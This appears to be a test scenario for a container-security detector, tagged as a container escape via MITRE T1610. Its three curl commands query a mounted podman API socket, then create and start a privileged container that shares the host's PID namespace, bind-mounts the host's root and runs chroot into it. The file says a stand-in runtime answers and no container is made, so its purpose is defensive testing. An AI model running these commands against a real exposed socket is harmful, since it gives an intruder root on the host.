# category: container-escape
# technique: T1610
# art: yes
# expect: container-runtime-socket
# image: debian
# setup: runtime_socket
# opts: --bind ../../docker.sock:/run/podman/podman.sock
# desc: a container with the node's podman API socket mounted (/run/podman/podman.sock) asks it over curl --unix-socket, with podman's own libpod API, for its info and to create and start a privileged container in the host's pid namespace with the host's / bound in (the stand-in runtime answers anything; no container is made)
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
curl -s --unix-socket /run/podman/podman.sock http://d/v4.0.0/libpod/info
curl -s --unix-socket /run/podman/podman.sock -X POST -H 'Content-Type: application/json' \
  -d '{"name":"node-shell","image":"docker.io/library/alpine","command":["sh","-c","chroot /host sh -c id"],"privileged":true,"pidns":{"nsmode":"host"},"mounts":[{"destination":"/host","source":"/","type":"bind"}]}' \
  http://d/v4.0.0/libpod/containers/create
curl -s --unix-socket /run/podman/podman.sock -X POST http://d/v4.0.0/libpod/containers/node-shell/start
